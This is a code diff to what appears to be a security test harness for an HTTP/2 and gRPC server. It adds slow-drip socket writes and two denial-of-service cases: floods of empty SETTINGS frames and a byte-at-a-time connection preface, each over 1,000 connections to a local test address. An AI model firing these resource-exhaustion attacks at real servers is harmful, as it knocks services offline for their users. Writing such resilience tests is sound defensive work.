@@ -128,13 +128,22 @@ function hpackBomb(): Buffer {
   return Buffer.concat([block, entry, Buffer.alloc(12_000, 0xbe)]);
 }
 
-/** Opens connections; each sends `first` at the same time, and then nothing. */
+const nothing: Buffer = Buffer.alloc(0);
+
+interface Connected {
+  readonly port?: number;
+  readonly address?: string;
+  /** Sent over and over, a byte per 50 ms. */
+  readonly drip?: Buffer;
+}
+
+/** Opens connections; each sends `first` at the same time, and then `drip`. */
 async function connections(
   stage: Stage,
   signal: AbortSignal,
   count: number,
   first: Buffer,
-  { port = stage.ports.grpc, address = "127.0.0.9" } = {},
+  { port = stage.ports.grpc, address = "127.0.0.9", drip = nothing }: Connected = {},
 ): Promise<string> {
   const sockets: Socket[] = [];
   let ended = 0;
@@ -150,7 +159,11 @@ async function connections(
   }
   await sleep(300);
   if (first.length > 0) for (const socket of sockets) socket.write(first);
-  while (!signal.aborted && stage.ended() === undefined) await sleep(50);
+  for (let at = 0; !signal.aborted && stage.ended() === undefined; at += 1) {
+    await sleep(50);
+    const byte = drip.subarray(at % drip.length, (at % drip.length) + 1);
+    if (byte.length > 0) for (const socket of sockets) socket.write(byte);
+  }
   const told = `${sockets.length} connections, ${ended} ended`;
   for (const socket of sockets) socket.destroy();
   return told;
@@ -293,6 +306,20 @@ export const frameAttacks: readonly Attack[] = [
       const first = Buffer.concat([greeting, openStream(1)]);
       return connections(stage, signal, 4_000, first);
     },
+  },
+  {
+    finding: "H4",
+    title: "1,000 connections with 70 KB of settings, then a byte at a time, and no request",
+    run: (stage, signal) => {
+      const settings = frame(type.settings, 0, 0, Buffer.alloc(0));
+      const first = Buffer.concat([greeting, many(settings, 7_800)]);
+      return connections(stage, signal, 1_000, first, { drip: settings });
+    },
+  },
+  {
+    finding: "H4+",
+    title: "1,000 connections whose first bytes arrive one at a time",
+    run: (stage, signal) => connections(stage, signal, 1_000, Buffer.alloc(0), { drip: greeting }),
   },
   {
     finding: "S5+",
